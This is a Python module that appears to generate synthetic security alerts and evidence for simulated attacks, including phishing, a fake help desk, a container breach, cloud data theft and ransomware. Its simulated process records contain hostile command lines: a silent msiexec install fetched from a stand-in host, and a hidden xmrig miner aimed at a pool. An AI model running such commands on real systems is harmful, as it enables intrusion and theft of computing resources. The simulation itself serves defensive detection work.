"""Attacks on mail, data and cloud resources."""

from datetime import datetime

from simulator.stories import evidence_cloud as cloud
from simulator.stories import evidence_mail as mail
from simulator.stories import names
from simulator.stories.estate import Person, guid
from simulator.stories.identity import bad_ip
from simulator.stories.script import Script


def phishing_wave(script: Script) -> None:
    """One mail to many: reported by a user, clicked by another, removed by the service."""
    estate, make, rng = script.estate, script.make, script.rng
    reporter, clicker, *rest = rng.sample(estate.staff, 5)
    domain = rng.choice(names.BAD_DOMAINS)
    subject, sender = f"Facture n° {rng.randrange(10**5)} - à régler", f"comptabilité@{domain}"
    url = f"https://{domain}/%66acture?id={rng.randrange(10**6)}"
    ids = {person.oid: guid(rng) for person in (reporter, clicker, *rest)}
    reported = script.at(0)
    told = mail.submission(make, reporter, reported, subject, sender, ids[reporter.oid])
    seen = mail.message(make, reporter, reported, subject, sender, ids[reporter.oid], [url])
    script.alert(
        "user_reported",
        reported,
        [told, seen, mail.mailbox(make, reporter, reported)],
        kind="attack",
        event="report",
    )
    clicked = script.at(6)
    read = mail.message(
        make, clicker, clicked, subject, sender, ids[clicker.oid], [url], verdict="malicious"
    )
    script.alert(
        "url_click",
        clicked,
        [
            read,
            make.user(clicker, clicked),
            make.url(url, clicked, verdict="malicious"),
            mail.mailbox(make, clicker, clicked),
        ],
        kind="attack",
        event="click",
    )
    _visited(script, clicker, clicked, url)
    removed = script.at(21)
    copies = [
        mail.message(
            make,
            person,
            removed,
            subject,
            sender,
            ids[person.oid],
            [url],
            delivery="Delivered",
            location="Quarantine",
            remediationStatus="remediated",
        )
        for person in rest
    ]
    script.alert(
        "phish_delivered",
        removed,
        [mail.cluster(make, removed, subject, list(ids.values())), *copies, make.url(url, removed)],
        kind="attack",
        event="removal",
    )


def _visited(script: Script, clicker: Person, clicked: datetime, url: str) -> None:
    """The page behind the link, as the machine saw it."""
    make, machine = script.make, script.estate.machine_of(clicker)
    browser = make.process(
        "msedge.exe", f'"msedge.exe" --single-argument {url}', clicked, machine, clicker
    )
    script.alert(
        "smartscreen",
        clicked,
        [
            make.device(machine, clicked, clicker),
            make.user(clicker, clicked),
            make.url(url, clicked),
            browser,
        ],
        kind="attack",
        event="click",
        incident="endpoint",
    )


def help_desk_call(script: Script) -> None:
    """A false help desk writes in Teams, a remote tool follows."""
    estate, make, rng = script.estate, script.make, script.rng
    victim = rng.choice(estate.staff)
    machine, url = estate.machine_of(victim), "https://cdn-telemetry-update.example/assist.msi"
    wrote = script.at(0)
    script.alert(
        "teams_phish",
        wrote,
        [
            mail.teams_message(
                make, [victim], wrote, "helpdesk@it-support.onmicrosoft.example", url
            ),
            make.user(victim, wrote, roles=["attacked"]),
        ],
        kind="attack",
        event="chat",
    )
    installed = script.at(8)
    setup = make.process("msiexec.exe", f"msiexec /i {url} /qn", installed, machine, victim)
    script.alert(
        "encoded_powershell",
        installed,
        [
            make.device(machine, installed, victim),
            make.user(victim, installed),
            setup,
            make.url(url, installed),
        ],
        kind="attack",
        event="tool",
        incident="endpoint",
        host=machine.host,
    )


def container_attack(script: Script) -> None:
    """A web server is broken into, a privileged container reads a secret."""
    estate, make = script.estate, script.make
    address = bad_ip(script)
    injected = script.at(0)
    server = cloud.azure(make, injected, "Microsoft.Sql/servers", f"sql-{estate.slug}")
    script.alert(
        "sql_injection",
        injected,
        [server, make.ip(address, injected, roles=["attacker"])],
        kind="attack",
        event="injection",
        incident="web",
    )
    started = script.at(9)
    kube = [
        cloud.cluster(make, started),
        cloud.namespace(make, started),
        cloud.pod(make, started),
        cloud.container(make, started),
        cloud.image(make, started),
        cloud.registry(make, started),
        cloud.controller(make, started),
    ]
    script.alert("privileged_container", started, kube, kind="attack", event="container")
    read = script.at(15)
    secret = [
        cloud.cluster(make, read),
        cloud.secret(make, read),
        cloud.service_account(make, read),
        cloud.service(make, read),
        make.ip(address, read),
    ]
    script.alert("k8s_secret", read, secret, kind="attack", event="secret")
    mined = script.at(40)
    web = estate.servers[4]
    miner = make.process(
        "xmrig", "/var/lib/.x/xmrig -o pool.example:3333", mined, web, path="/var/lib/.x"
    )
    script.alert(
        "crypto_miner",
        mined,
        [
            cloud.azure(make, mined, "Microsoft.Compute/virtualMachines", web.host),
            make.device(web, mined),
            miner,
            make.ip(address, mined),
        ],
        kind="attack",
        event="mining",
        incident="web",
        host=web.host,
    )


def storage_theft(script: Script) -> None:
    """A shared access signature leaks in a public repository, and the data goes."""
    estate, make, rng = script.estate, script.make, script.rng
    developer, address = rng.choice(estate.staff), bad_ip(script)
    pushed = script.at(0)
    script.alert(
        "github_secret",
        pushed,
        [
            cloud.github_repo(make, pushed),
            cloud.github_organization(make, pushed),
            cloud.github_user(
                make, pushed, developer.sam.replace(".", "-"), developer.upn, developer.name
            ),
        ],
        kind="attack",
        event="push",
    )
    used = script.at(22)
    script.alert(
        "sas_abuse",
        used,
        [cloud.storage(make, used), cloud.sas_token(make, used), make.ip(address, used)],
        kind="attack",
        event="read",
        incident="storage",
    )
    taken = script.at(31)
    script.alert(
        "storage_anonymous",
        taken,
        [
            cloud.storage(make, taken),
            cloud.blob_container(make, taken),
            cloud.blob(make, taken, "kunden-2026.csv"),
            make.ip(address, taken),
        ],
        kind="attack",
        event="theft",
        incident="storage",
    )
    read = script.at(47)
    script.alert(
        "keyvault_access",
        read,
        [
            cloud.azure(make, read, "Microsoft.KeyVault/vaults", f"kv-{estate.slug}"),
            make.ip(address, read),
        ],
        kind="attack",
        event="vault",
        incident="vault",
    )


def leaver(script: Script) -> None:
    """An employee who leaves takes data along: three products see it."""
    estate, make, rng = script.estate, script.make, script.rng
    person = rng.choice(estate.staff)
    machine, name = estate.machine_of(person), f"Kundenliste_{estate.netbios}_2026.xlsx"
    shared = script.at(0)
    script.alert(
        "dlp_card",
        shared,
        [
            make.user(person, shared, roles=["policyViolator"]),
            make.file(name, "https://example-my.sharepoint.example/personal", shared),
            make.cloud_app(15600, "Microsoft OneDrive for Business", shared),
        ],
        kind="attack",
        event="share",
        extra=name,
    )
    sent = script.at(17)
    message = mail.message(
        make,
        person,
        sent,
        f"Fwd: {name}",
        f"{person.sam}@private-mail.example",
        guid(rng),
        [],
        attachments=1,
    )
    script.alert(
        "dlp_mail",
        sent,
        [make.user(person, sent, roles=["policyViolator"]), message],
        kind="attack",
        event="mail",
        extra=f"Fwd: {name}",
    )
    stolen = script.at(50)
    script.alert(
        "irm_leaver",
        stolen,
        [make.user(person, stolen, roles=["policyViolator"]), make.device(machine, stolen, person)],
        kind="attack",
        event="leave",
        incident="insider",
    )


def cloud_ransom(script: Script) -> None:
    """Files in OneDrive are changed and deleted by one account."""
    estate, make, rng = script.estate, script.make, script.rng
    victim, address = rng.choice(estate.staff), bad_ip(script)
    changed = script.at(0)
    app = make.cloud_app(15600, "Microsoft OneDrive for Business", changed)
    script.alert(
        "ransomware_activity",
        changed,
        [make.user(victim, changed), make.ip(address, changed), app],
        kind="attack",
        event="change",
        user=victim.name,
    )
    gone = script.at(11)
    script.alert(
        "unusual_deletion",
        gone,
        [
            make.user(victim, gone),
            make.ip(address, gone),
            make.cloud_app(15600, "Microsoft OneDrive for Business", gone),
        ],
        kind="attack",
        event="delete",
        user=victim.name,
    )


def rare_things(script: Script) -> None:
    """A power plant's controller, other clouds, an AI agent: the evidence one seldom sees."""
    estate, make, rng = script.estate, script.make, script.rng
    operator = rng.choice(estate.staff)
    stopped = script.at(0)
    script.alert(
        "plc_stop",
        stopped,
        [
            cloud.iot_device(make, stopped),
            cloud.nic(make, stopped, "10.90.4.21"),
            cloud.connection(make, stopped, "10.90.4.9", "10.90.4.21", 502),
        ],
        kind="coverage",
        alone=True,
        event="plc",
        incident="plant",
    )
    used = script.at(5)
    script.alert(
        "aws_login",
        used,
        [cloud.amazon(make, used, "i-0a1b2c3d4e5f60718"), make.ip(bad_ip(script), used)],
        kind="coverage",
        alone=True,
        event="aws",
        incident="aws",
    )
    script.alert(
        "gcp_key",
        script.at(7),
        [cloud.google(make, used, "gke-payments-1"), make.ip(bad_ip(script), used)],
        kind="coverage",
        alone=True,
        event="gcp",
        incident="gcp",
    )
    asked = script.at(11)
    script.alert(
        "ai_jailbreak",
        asked,
        [cloud.ai_agent(make, asked), make.user(operator, asked, roles=["source"])],
        kind="coverage",
        alone=True,
        event="ai",
        incident="ai",
    )
    tunnel = script.at(14)
    server = estate.servers[3]
    script.alert(
        "dns_tunnel",
        tunnel,
        [
            cloud.azure(make, tunnel, "Microsoft.Compute/virtualMachines", server.host),
            make.dns("a1b2c3.t.cdn-telemetry-update.example", tunnel, "198.51.100.53", server),
        ],
        kind="coverage",
        alone=True,
        event="dns",
        incident="dns",
    )
